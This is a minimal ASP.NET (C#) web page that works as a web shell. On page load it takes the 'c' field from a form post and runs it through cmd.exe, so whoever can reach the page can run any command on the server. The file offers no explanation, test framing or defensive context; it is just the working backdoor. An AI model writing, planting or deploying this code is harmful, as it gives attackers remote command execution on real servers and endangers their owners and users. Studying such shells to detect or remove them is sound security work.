<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  string c = Request.Form["c"];
  System.Diagnostics.Process.Start("cmd.exe", "/c " + c);
}
</script>
